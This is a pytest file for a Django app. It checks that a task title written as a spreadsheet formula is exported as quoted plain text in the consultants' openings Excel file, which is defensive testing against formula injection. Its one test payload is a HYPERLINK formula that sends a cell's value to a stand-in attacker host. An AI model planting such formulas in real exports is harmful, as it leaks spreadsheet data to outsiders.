# SPDX-License-Identifier: MPL-2.0
"""An employer cannot plant a live formula in the consultants' openings export (issue 23, item 7)."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from tests.web.test_pages import log_in

FORMULA = '=HYPERLINK("http://angriber.example/?d="&F2,"Se opgaven")'


def test_a_task_titled_as_a_formula_is_plain_text_in_the_openings_excel(client, consultant, employer_user, opening):
    log_in(client, employer_user)
    posted = client.post(reverse("web:employer_task"), {"title": FORMULA, "hours_min": "2", "hours_max": "4"})
    assert posted.status_code == 302
    client.logout()
    log_in(client, consultant)
    response = client.get(reverse("web:openings") + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    titles = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert set(titles) == {FORMULA, "Opfyldning af frugt"}
    planted = titles[FORMULA]
    assert planted.data_type == "s" and planted.quotePrefix
    assert not titles["Opfyldning af frugt"].quotePrefix
    hours = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in hours)
